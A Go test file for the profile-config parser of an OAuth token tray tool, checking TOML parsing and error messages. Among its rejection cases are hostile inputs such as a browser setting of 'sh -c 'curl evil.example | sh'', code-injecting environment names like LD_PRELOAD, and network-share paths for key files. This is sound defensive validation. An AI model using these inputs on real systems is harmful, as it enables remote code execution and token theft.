package profile

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

func TestParseConfigValid(t *testing.T) {
	src := `default = "work"

[profile.work]
issuer = "https://id.example.com"
client_id = "abc"
scopes = ["openid", "offline_access"]
refresh_margin = "5m"
auth_params = { audience = "https://api.example.com" }

[profile.lightfi]
auth_url = "https://lightfiv2.auth.eu-west-2.amazoncognito.com/oauth2/authorize"
token_url = "https://lightfiv2.auth.eu-west-2.amazoncognito.com/oauth2/token"
client_id = "xyz"
client_secret = "s3cret"
client_auth = "post"
redirect_url = "http://localhost:3000/"
ca_file = "corp.pem"
`
	cfg, err := ParseConfig("/etc/tt/profiles.toml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(cfg.Names, ","); got != "work,lightfi" {
		t.Errorf("names = %s, want file order work,lightfi", got)
	}
	p, err := cfg.Profile("")
	if err != nil || p.Name != "work" {
		t.Fatalf("default profile = %v, %v", p, err)
	}
	if p.AuthParams["audience"] != "https://api.example.com" || !p.HasScope("offline_access") || p.RefreshMargin.Duration != 5*time.Minute {
		t.Errorf("work = %+v", p)
	}
	l := cfg.Profiles["lightfi"]
	if l.CAFile != "/etc/tt/corp.pem" {
		t.Errorf("relative ca_file resolved to %q, want next to the profile file", l.CAFile)
	}
	if _, err := cfg.Profile("nope"); !errors.Is(err, ErrNoProfile) {
		t.Errorf("unknown profile: %v", err)
	}
}

func TestProfileChoice(t *testing.T) {
	one, _ := ParseConfig("p.toml", []byte("[profile.only]\nissuer = \"https://a.example\"\nclient_id = \"x\"\n"))
	if p, err := one.Profile(""); err != nil || p.Name != "only" {
		t.Errorf("single profile not implied: %v %v", p, err)
	}
	two, _ := ParseConfig("p.toml", []byte("[profile.a]\nissuer = \"https://a.example\"\nclient_id = \"x\"\n[profile.b]\nissuer = \"https://a.example\"\nclient_id = \"y\"\n"))
	// Several and no default: the first in the file, as the tray marks it.
	if p, err := two.Profile(""); err != nil || p.Name != "a" || two.DefaultName() != "a" {
		t.Errorf("two profiles, no default: %v %v", p, err)
	}
	none, _ := ParseConfig("p.toml", nil)
	if _, err := none.Profile(""); !errors.Is(err, ErrNoProfile) {
		t.Errorf("no profile: %v", err)
	}
}

// Every broken shape names the file, the line, the profile and the key.
// Durations are text ("5m") or, as clipboard_clear's seconds are, a whole
// number of seconds.
func TestDurationAsSeconds(t *testing.T) {
	for src, want := range map[string]time.Duration{`"5m"`: 5 * time.Minute, "300": 5 * time.Minute, "0": 0, `"90s"`: 90 * time.Second} {
		cfg, err := ParseConfig("p.toml", []byte("[profile.w]\nissuer = \"https://id.example.com\"\nclient_id = \"c\"\nrefresh_margin = "+src+"\n"))
		if err != nil || cfg.Profiles["w"].RefreshMargin.Duration != want {
			t.Errorf("refresh_margin = %s: %v, %v; want %s", src, err, cfg, want)
		}
	}
}

func TestParseConfigErrors(t *testing.T) {
	const ok = "issuer = \"https://id.example.com\"\nclient_id = \"abc\"\n"
	cases := []struct {
		name, src string
		line      int
		profile   string
		key       string
		msg       string
	}{
		{"unknown key", "[profile.w]\n" + ok + "client_sercet = \"x\"\n", 4, "w", "client_sercet", "unknown key"},
		{"unknown top-level key", "defualt = \"w\"\n[profile.w]\n" + ok, 1, "", "defualt", "unknown key"},
		// What a key takes, in words, not Go's type names.
		{"a list given as text", "[profile.w]\n" + ok + "scopes = \"openid\"\n", 4, "w", "scopes", `takes a list of texts, such as ["openid", "email"], not text`},
		{"a number for text", "[profile.w]\nissuer = \"https://id.example.com\"\nclient_id = 42\n", 3, "w", "client_id", `takes text in quotes, such as "…", not a number`},
		{"a duration as true", "[profile.w]\n" + ok + "refresh_margin = true\n", 4, "w", "refresh_margin", `takes a duration in quotes, such as "5m", or whole seconds, not true or false`},
		{"a duration as negative seconds", "[profile.w]\n" + ok + "refresh_margin = -5\n", 4, "w", "refresh_margin", "or whole seconds, not -5"},
		{"a bad duration on its second line", "[profile.w]\n" + ok + "refresh_margin = \"5m\"\nrefresh_margin = [1]\n", 5, "w", "refresh_margin", ""},
		{"a duration's name elsewhere", "[profile.w]\n" + ok + "[profile.w.auth_params]\nrefresh_margin = true\n", 5, "w", "auth_params.refresh_margin", "takes text in quotes"},
		{"a duration's name at the top", "refresh_margin = true\n[profile.w]\n" + ok, 1, "", "refresh_margin", "unknown key"},
		{"a fraction for seconds", "clipboard_clear = 1.5\n[profile.w]\n" + ok, 1, "", "clipboard_clear", "takes a whole number, not a decimal number"},
		{"a table as a number", "[profile.w]\n" + ok + "auth_params = 3\n", 4, "w", "auth_params", "takes a table of texts"},
		{"seconds as text", "clipboard_clear = \"60\"\n[profile.w]\n" + ok, 1, "", "clipboard_clear", "takes a whole number, not text"},
		{"forwarded as a yes", "forwarded = \"yes\"\n[profile.w]\n" + ok, 1, "", "forwarded", `"yes" is not a choice; give "ask"`},
		{"forwarded as true", "forwarded = true\n[profile.w]\n" + ok, 1, "", "forwarded", "takes text in quotes"},
		{"keys right under [profile]", "[profile]\n" + ok, 2, "", "", "a profile's keys go under [profile.NAME]"},
		{"a key twice", "[profile.w]\n" + ok + "client_id = \"d\"\n", 4, "", "client_id", "set a second time"},
		{"not TOML", "[profile.w\n" + ok, 1, "", "", "not valid TOML"},
		{"missing client_id", "[profile.w]\nissuer = \"https://id.example.com\"\n", 1, "w", "client_id", "missing"},
		{"no endpoints", "[profile.w]\nclient_id = \"x\"\n", 1, "w", "issuer", "auth_url and token_url"},
		{"token_url alone", "[profile.w]\nclient_id = \"x\"\ntoken_url = \"https://a.example/t\"\n", 1, "w", "auth_url", "both"},
		{"bad client_auth", "[profile.w]\n" + ok + "client_auth = \"bsic\"\n", 4, "w", "client_auth", "\"bsic\""},
		{"none with secret", "[profile.w]\n" + ok + "client_auth = \"none\"\nclient_secret = \"s\"\n", 4, "w", "client_auth", "remove the secret"},
		{"plain http issuer", "[profile.w]\nissuer = \"http://id.example.com\"\nclient_id = \"x\"\n", 2, "w", "issuer", "plain http"},
		// The tools' keys: a token the provider chooses must never become
		// code a program runs, nor go to a git host two profiles claim.
		{"env with =", "[profile.w]\n" + ok + "env = \"X=Y\"\n", 4, "w", "env", "not an environment variable name"},
		{"env starting with a digit", "[profile.w]\n" + ok + "env = \"1A\"\n", 4, "w", "env", "not an environment variable name"},
		{"env BASH_ENV", "[profile.w]\n" + ok + "env = \"BASH_ENV\"\n", 4, "w", "env", "cannot carry a token"},
		{"env NODE_OPTIONS", "[profile.w]\n" + ok + "env = \"NODE_OPTIONS\"\n", 4, "w", "env", "cannot carry a token"},
		{"env LD_PRELOAD", "[profile.w]\n" + ok + "env = \"LD_PRELOAD\"\n", 4, "w", "env", "cannot carry a token"},
		{"env GIT_SSL_KEY", "[profile.w]\n" + ok + "env = \"GIT_SSL_KEY\"\n", 4, "w", "env", "cannot carry a token"},
		{"git_urls with an empty segment", "[profile.w]\n" + ok + "git_urls = [\"https://git.example.com//\"]\n", 4, "w", "git_urls", "empty or dot path segment"},
		{"git_urls with a user", "[profile.w]\n" + ok + "git_urls = [\"https://me@git.example.com/\"]\n", 4, "w", "git_urls", "not an https URL prefix"},
		{"git_urls claimed twice", "[profile.a]\n" + ok + "git_urls = [\"https://git.example.com/org/\"]\n[profile.b]\n" + ok + "git_urls = [\"https://GIT.example.com:443/org\"]\n", 8, "b", "git_urls", "also in profile a's git_urls"},
		{"ca_file on a share", "[profile.w]\n" + ok + "ca_file = '\\\\\\\\host@SSL\\DavWWWRoot\\ca.pem'\n", 4, "w", "ca_file", "network share"},
		{"ca_file in the NT namespace", "[profile.w]\n" + ok + "ca_file = '\\??\\UNC\\evilhost\\share\\ca.pem'\n", 4, "w", "ca_file", "network share"},
		{"ca_file by GLOBALROOT", "[profile.w]\n" + ok + "ca_file = 'C:\\x\\..\\..\\GLOBALROOT\\Device\\Mup\\h\\s\\ca.pem'\n", 4, "w", "ca_file", "network share"},
		{"private_key_file on a share", "[profile.w]\n" + ok + "client_auth = \"private_key_jwt\"\nprivate_key_file = \"//host/share/k.pem\"\n", 5, "w", "private_key_file", "network share"},
		{"display_name turning text", "[profile.w]\n" + ok + "display_name = \"IT \u202eevil\"\n", 4, "w", "display_name", "plain text"},
		{"relative url", "[profile.w]\nclient_id = \"x\"\nauth_url = \"/authorize\"\ntoken_url = \"https://a.example/t\"\n", 3, "w", "auth_url", "not an absolute"},
		{"redirect not loopback", "[profile.w]\n" + ok + "redirect_url = \"http://example.com:3000/\"\n", 4, "w", "redirect_url", "127.0.0.1, [::1] or localhost"},
		{"redirect https", "[profile.w]\n" + ok + "redirect_url = \"https://localhost:3000/\"\n", 4, "w", "redirect_url", "http://"},
		{"redirect with query", "[profile.w]\n" + ok + "redirect_url = \"http://localhost:3000/?a=b\"\n", 4, "w", "redirect_url", "without user, query or fragment"},
		{"reserved auth param", "[profile.w]\n" + ok + "[profile.w.auth_params]\nstate = \"fixed\"\n", 4, "w", "auth_params", "set by tokentray"},
		{"scope with space", "[profile.w]\n" + ok + "scopes = [\"openid email\"]\n", 4, "w", "scopes", "not a valid scope"},
		{"openid without issuer", "[profile.w]\nclient_id = \"x\"\nauth_url = \"https://a.example/a\"\ntoken_url = \"https://a.example/t\"\nscopes = [\"openid\"]\n", 5, "w", "scopes", "needs issuer"},
		{"discovery URL as issuer", "[profile.w]\nissuer = \"https://a.example/.well-known/openid-configuration\"\nclient_id = \"x\"\n", 2, "w", "issuer", "without /.well-known"},
		{"bad refresh_margin", "[profile.w]\n" + ok + "refresh_margin = \"5 minutes\"\n", 4, "w", "refresh_margin", "not a duration"},
		{"unknown grant", "[profile.w]\n" + ok + "grant = \"password\"\n", 4, "w", "grant", "jwt-bearer"},
		{"jwt-bearer without key_id", "[profile.w]\ngrant = \"jwt-bearer\"\ntoken_url = \"https://id.example/t\"\nemail = \"a@b\"\n", 1, "w", "key_id", "missing"},
		{"jwt-bearer without email", "[profile.w]\ngrant = \"jwt-bearer\"\ntoken_url = \"https://id.example/t\"\nkey_id = \"k\"\n", 1, "w", "email", "missing"},
		{"jwt-bearer with a browser key", "[profile.w]\ngrant = \"jwt-bearer\"\ntoken_url = \"https://id.example/t\"\nkey_id = \"k\"\nemail = \"a@b\"\nredirect_url = \"http://localhost:3000/\"\n", 6, "w", "redirect_url", "no use"},
		{"jwt-bearer bad alg", "[profile.w]\ngrant = \"jwt-bearer\"\ntoken_url = \"https://id.example/t\"\nkey_id = \"k\"\nemail = \"a@b\"\njwt_alg = \"none\"\n", 6, "w", "jwt_alg", "HS256"},
		{"machine client without auth", "[profile.w]\n" + ok + "grant = \"client_credentials\"\nclient_auth = \"none\"\n", 5, "w", "client_auth", "proves who it is"},
		{"machine client with a sign-in page", "[profile.w]\n" + ok + "grant = \"client_credentials\"\nauth_url = \"https://id.example.com/a\"\n", 5, "w", "auth_url", "no use"},
		{"machine client with a browser", "[profile.w]\n" + ok + "grant = \"client_credentials\"\nbrowser = \"firefox {url}\"\n", 5, "w", "browser", "no use"},
		{"relative resource", "[profile.w]\n" + ok + "grant = \"client_credentials\"\nresource = [\"api\"]\n", 5, "w", "resource", "absolute URI"},
		{"device_code without endpoint", "[profile.w]\nclient_id = \"x\"\ngrant = \"device_code\"\ntoken_url = \"https://id.example.com/t\"\n", 1, "w", "device_authorization_url", "missing"},
		{"device endpoint elsewhere", "[profile.w]\n" + ok + "device_authorization_url = \"https://evil.example/device\"\n", 4, "w", "device_authorization_url", "tokens would go to https://evil.example"},
		{"key file without private_key_jwt", "[profile.w]\n" + ok + "private_key_file = \"k.pem\"\n", 4, "w", "private_key_file", "no use unless"},
		{"audience on a browser sign-in", "[profile.w]\n" + ok + "audience = \"https://api.example.com\"\n", 4, "w", "audience", "auth_params"},
		{"browser is a shell", "[profile.w]\n" + ok + "browser = \"sh -c 'curl evil.example | sh' {url}\"\n", 4, "w", "browser", "not a browser"},
		{"browser is an interpreter", "[profile.w]\n" + ok + "browser = \"python3 {url}\"\n", 4, "w", "browser", "not a browser"},
		{"browser as a path", "[profile.w]\n" + ok + "browser = \"/usr/bin/firefox {url}\"\n", 4, "w", "browser", "is a path; name the browser only"},
		{"browser debugging port", "[profile.w]\n" + ok + "browser = \"chromium --remote-debugging-port=9222 {url}\"\n", 4, "w", "browser", "--remote-debugging-port"},
		{"browser extension", "[profile.w]\n" + ok + "browser = \"google-chrome --load-extension=/tmp/x {url}\"\n", 4, "w", "browser", "--load-extension"},
		{"browser without {url}", "[profile.w]\n" + ok + "browser = \"firefox -P work\"\n", 4, "w", "browser", "{url}"},
		{"browser -a not open", "[profile.w]\n" + ok + "browser = \"firefox -a x {url}\"\n", 4, "w", "browser", "macOS"},
		{"a token header other than Origin", "[profile.w]\n" + ok + "token_headers = { Authorization = \"Bearer x\" }\n", 4, "w", "token_headers", "only Origin"},
		{"an Origin with a path", "[profile.w]\n" + ok + "token_headers = { Origin = \"https://evil.example/x\" }\n", 4, "w", "token_headers", "not an origin"},
		{"bad profile name", "[profile.\"my work\"]\n" + ok, 1, "my work", "", "letters, digits"},
		{"a language tokentray does not speak", "language = \"tlh\"\n[profile.w]\n" + ok, 1, "", "language", "not a language tokentray speaks; give one of en, de, es, fr, nb"},
		{"default names nothing", "default = \"x\"\n[profile.w]\n" + ok, 1, "", "default", "no profile named"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := ParseConfig("profiles.toml", []byte(c.src))
			var ce *ConfigError
			if !errors.As(err, &ce) {
				t.Fatalf("got %v, want a *ConfigError", err)
			}
			if ce.File != "profiles.toml" || ce.Line != c.line || ce.Profile != c.profile || ce.Key != c.key || !strings.Contains(ce.Msg, c.msg) {
				t.Errorf("got %+v\nwant line %d, profile %q, key %q, message with %q", *ce, c.line, c.profile, c.key, c.msg)
			}
			if c.line > 0 && !strings.HasPrefix(ce.Error(), "profiles.toml:") {
				t.Errorf("message %q does not start with file:line", ce.Error())
			}
		})
	}
}

func TestLoadConfigMissingFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "none.toml")
	_, err := LoadConfig(path)
	var ce *ConfigError
	if !errors.As(err, &ce) || !strings.Contains(err.Error(), path) {
		t.Errorf("missing file: %v", err)
	}
	if err := os.WriteFile(path, []byte("[profile.a]\nissuer = \"https://a.example\"\nclient_id = \"x\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadConfig(path); err != nil {
		t.Errorf("LoadConfig: %v", err)
	}
}

// validProfileName is the rule the documentation states as a pattern.
func TestValidProfileName(t *testing.T) {
	rule := regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$`)
	names := []string{"", "a", "work", "my-work_2.prod", ".hidden", "-x", "_x", "a/b", "a b", "é", "a\x00",
		strings.Repeat("a", 64), strings.Repeat("a", 65), "A" + strings.Repeat(".", 63), "9", "a:b"}
	for c := range 256 {
		names = append(names, string([]byte{byte(c)}), "x"+string([]byte{byte(c)}))
	}
	for _, n := range names {
		if got, want := validProfileName(n), rule.MatchString(n); got != want {
			t.Errorf("validProfileName(%q) = %t, want %t", n, got, want)
		}
	}
}

// What an error repeats of a hostile file is capped: a key of 300,000
// dotted parts comes back as a line, not 600 KB.
func TestErrorsRepeatLittle(t *testing.T) {
	key := strings.Repeat("a.", 300000) + "a"
	for _, src := range []string{
		"[profile.w]\n" + key + " = 1\n",
		"[profile.w]\nissuer = \"https://id.example.com\"\nclient_id = \"c\"\nenv = \"" + strings.Repeat("X", 500000) + "=\"\n",
	} {
		_, err := ParseConfig("profiles.toml", []byte(src))
		if err == nil || len(err.Error()) > 3000 {
			t.Errorf("error of %d bytes", len(fmt.Sprint(err)))
		}
	}
}

// Staff are told where a mistake is, for IT, without the file format's
// words: a line and a key.
func TestWhereForStaff(t *testing.T) {
	const ok = "issuer = \"https://id.example.com\"\nclient_id = \"abc\"\n"
	for _, c := range []struct{ name, src, want string }{
		{"a list not closed", "[profile.w]\n" + ok + "scopes = [\"openid\", \"email\"\n", "line 4"},
		{"a table not closed", "[profile.w\n" + ok, "line 1"},
		{"a key misspelt", "[profile.w]\n" + ok + "client_sercet = \"x\"\n", "line 4, key client_sercet of profile w"},
		{"a value of the wrong kind", "[profile.w]\n" + ok + "scopes = \"openid\"\n", "line 4, key scopes of profile w"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := ParseConfig("profiles.toml", []byte(c.src))
			var ce *ConfigError
			if !errors.As(err, &ce) {
				t.Fatalf("got %v, want a *ConfigError", err)
			}
			if got := ce.Where(); got != c.want {
				t.Errorf("Where() = %q, want %q (error %q)", got, c.want, ce.Error())
			}
		})
	}
}

// forwarded: how the tray answers a request from elsewhere; it asks
// unless the file says otherwise.
func TestForwarded(t *testing.T) {
	for src, want := range map[string]string{
		"": ForwardAsk, "forwarded = \"ask\"\n": ForwardAsk,
		"forwarded = \"answer\"\n": ForwardAnswer, "forwarded = \"refuse\"\n": ForwardRefuse,
	} {
		cfg, err := ParseConfig("p.toml", []byte(src+"[profile.w]\nissuer = \"https://id.example.com\"\nclient_id = \"abc\"\n"))
		if err != nil || cfg.Forwarded != want {
			t.Errorf("%q: forwarded %q, %v; want %q", src, cfg.Forwarded, err, want)
		}
	}
	if got := EmptyConfig("p.toml").Forwarded; got != ForwardAsk {
		t.Errorf("no file: forwarded %q, want %q", got, ForwardAsk)
	}
}
